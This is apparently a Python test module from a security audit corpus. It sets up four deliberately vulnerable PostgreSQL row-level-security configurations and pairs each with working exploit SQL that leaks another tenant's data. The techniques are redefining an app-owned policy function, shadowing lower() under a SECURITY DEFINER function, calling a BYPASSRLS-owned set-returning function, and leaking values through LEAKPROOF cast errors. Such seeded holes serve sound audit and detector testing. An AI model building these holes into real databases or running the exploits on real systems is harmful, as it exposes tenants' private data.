"""Holes through functions: a policy function the app owns, SECURITY DEFINER bodies, LEAKPROOF errors."""

from __future__ import annotations

from tests.audit_corpus.case import (
    TENANT_A,
    Case,
    Hole,
    NotExploited,
    attempt,
    leaked,
)

FAMILY = "functions"
CURRENT_TENANT = "SELECT NULLIF(current_setting('app.current_tenant_id', true), '')::uuid"


def policy_function_owned_by_app(case: Case) -> None:
    # the app's migrations made the helper, in the app's own schema: the app role owns it
    case.names["lib"] = case.schema_for("lib")
    case.sql(
        "GRANT USAGE, CREATE ON SCHEMA {lib} TO {app};"
        "CREATE FUNCTION {lib}.current_tenant() RETURNS uuid LANGUAGE sql STABLE AS $$ "
        + CURRENT_TENANT
        + " $$;"
        "ALTER FUNCTION {lib}.current_tenant() OWNER TO {app}",
        as_owner=False,
    )
    predicate = "tenant_id = (SELECT {lib}.current_tenant())"
    case.tenant_table(policy="USING (" + predicate + ") WITH CHECK (" + predicate + ")")


def exploit_policy_function_owned_by_app(case: Case) -> str:
    """The function's owner replaces its body: every call returns tenant B."""
    with case.as_tenant(TENANT_A) as conn:
        replaced = attempt(
            conn,
            case.fill(
                "CREATE OR REPLACE FUNCTION {lib}.current_tenant() RETURNS uuid LANGUAGE sql STABLE"
                " AS $$ SELECT '{b}'::uuid $$"
            ),
        )
        if isinstance(replaced, str):
            raise NotExploited(replaced)
        return leaked(attempt(conn, case.fill("SELECT tenant_id, body FROM {s}.t")))


def definer_without_search_path(case: Case) -> None:
    # a reporting role (BYPASSRLS, SELECT on tenant tables, as the README sets one up) owns a helper
    # that reads a shared table only; its body calls lower() without a pinned search_path
    case.tenant_table()
    case.names["reporting"] = case.role("NOLOGIN BYPASSRLS")
    case.names["scratch"] = case.schema_for("scratch")
    case.sql(
        "CREATE TABLE {s}.plans (code text PRIMARY KEY, name text NOT NULL);"
        "INSERT INTO {s}.plans VALUES ('pro', 'Professional');"
        "GRANT SELECT ON {s}.plans, {s}.t TO {reporting};"
        "GRANT USAGE, CREATE ON SCHEMA {scratch} TO PUBLIC;"  # like public before PostgreSQL 15
        "CREATE FUNCTION {s}.plan_name(code text) RETURNS text LANGUAGE sql STABLE SECURITY DEFINER"
        " AS $$ SELECT name FROM {s}.plans WHERE plans.code = lower(plan_name.code) $$;"
        "ALTER FUNCTION {s}.plan_name(text) OWNER TO {reporting};"
        "GRANT EXECUTE ON FUNCTION {s}.plan_name(text) TO {app}",
        as_owner=False,
    )


def exploit_definer_without_search_path(case: Case) -> str:
    """A shadow lower() first on the search path runs as the function's owner, which bypasses RLS."""
    with case.as_tenant(TENANT_A) as conn:
        conn.exec_driver_sql(
            case.fill(
                "CREATE FUNCTION {scratch}.lower(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN"
                " RAISE EXCEPTION USING MESSAGE = 'loot: ' || (SELECT string_agg(body, ',') FROM {s}.t);"
                " END $$"
            )
        )
        conn.exec_driver_sql(case.fill("SET LOCAL search_path = {scratch}, pg_catalog"))
        return leaked(attempt(conn, case.fill("SELECT {s}.plan_name('PRO')")))


def definer_srf(case: Case) -> None:
    case.tenant_table()
    case.names["reporting"] = case.role("NOLOGIN BYPASSRLS")
    case.sql(
        "GRANT SELECT ON {s}.t TO {reporting};"
        "CREATE FUNCTION {s}.recent_notes() RETURNS TABLE (tenant_id uuid, body text) LANGUAGE sql STABLE"
        " SECURITY DEFINER SET search_path = pg_catalog AS $$ SELECT tenant_id, body FROM {s}.t $$;"
        "ALTER FUNCTION {s}.recent_notes() OWNER TO {reporting};"
        "GRANT EXECUTE ON FUNCTION {s}.recent_notes() TO {app}",
        as_owner=False,
    )


def exploit_definer_srf(case: Case) -> str:
    with case.as_tenant(TENANT_A) as conn:
        return leaked(attempt(conn, case.fill("SELECT * FROM {s}.recent_notes()")))


def leakproof_error(case: Case) -> None:
    case.tenant_table(seed=False)
    case.seed_secrets("t", b_first=True)  # a sequential scan meets B's rows first
    case.sql(
        "CREATE FUNCTION {s}.amount(body text) RETURNS numeric LANGUAGE plpgsql IMMUTABLE LEAKPROOF"
        " COST 0.0001 AS $$ BEGIN RETURN body::numeric; END $$",
        as_owner=False,
    )


def exploit_leakproof_error(case: Case) -> str:
    """The planner runs the cheap LEAKPROOF function before the policy: its cast error shows B's value."""
    with case.as_tenant(TENANT_A) as conn:
        conn.exec_driver_sql("SET LOCAL enable_indexscan = off; SET LOCAL enable_bitmapscan = off")
        return leaked(attempt(conn, case.fill("SELECT body FROM {s}.t WHERE {s}.amount(body) IS NOT NULL")))


HOLES = [
    Hole(
        "policy_function_owned_by_app",
        FAMILY,
        "the policy calls a function the app role owns: it re-points the function at tenant B",
        policy_function_owned_by_app,
        exploit_policy_function_owned_by_app,
        ("function {lib}.current_tenant()", "table {s}.t"),
    ),
    Hole(
        "definer_without_search_path",
        FAMILY,
        "SECURITY DEFINER helper of a BYPASSRLS role, no SET search_path: a shadow lower() runs as it",
        definer_without_search_path,
        exploit_definer_without_search_path,
        ("function {s}.plan_name(code text)",),
    ),
    Hole(
        "definer_srf",
        FAMILY,
        "a SECURITY DEFINER set-returning function of a BYPASSRLS role reads the tenant table",
        definer_srf,
        exploit_definer_srf,
        ("function {s}.recent_notes()",),
    ),
    Hole(
        "leakproof_error",
        FAMILY,
        "a LEAKPROOF function whose cast error shows its argument: B's values leak through errors",
        leakproof_error,
        exploit_leakproof_error,
        ("function {s}.amount(body text)",),
    ),
]
